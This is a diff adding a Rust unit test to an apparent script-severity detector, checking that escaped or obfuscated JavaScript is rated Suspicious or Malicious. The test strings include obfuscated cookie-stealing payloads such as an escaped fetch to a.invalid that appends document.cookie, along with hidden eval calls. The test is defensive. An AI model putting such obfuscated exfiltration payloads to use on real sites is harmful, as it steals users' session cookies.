@@ -121,3 +121,25 @@ fn what_stands_between_two_words_hides_neither() {
     let apart = format!("{library}document.cookie;fetch('https://a.invalid/');");
     assert_eq!(judge(&apart).0, Severity::Suspicious);
 }
+
+#[test]
+fn letters_as_codes_hide_a_name_and_angles_of_tags_do_not() {
+    let data =
+        r#"{"t":"\u003cb\u003e\u003c\u002fb\u003e","d":"A\u002f8\u002fz\u003d\u00e9\u00fc"}"#;
+    let chart = format!("Plotly.newPlot('a', [{}])", [data; 9].join(","));
+    assert_eq!(judge(&chart).0, Severity::Active);
+    for (script, wanted) in [
+        (r"\u0065val(a)", Severity::Suspicious),
+        (r"self['\145val'](a)", Severity::Suspicious),
+        (
+            r"f\u0065tch('https\u003a\u002f\u002fa.invalid/' + document['c\x6fokie'])",
+            Severity::Malicious,
+        ),
+        (
+            r"self['\u0061\u0062\u0063\u0064\u0065\u0066\u0067\u0068\u0069']()",
+            Severity::Suspicious,
+        ),
+    ] {
+        assert_eq!(judge(script).0, wanted, "{script}");
+    }
+}
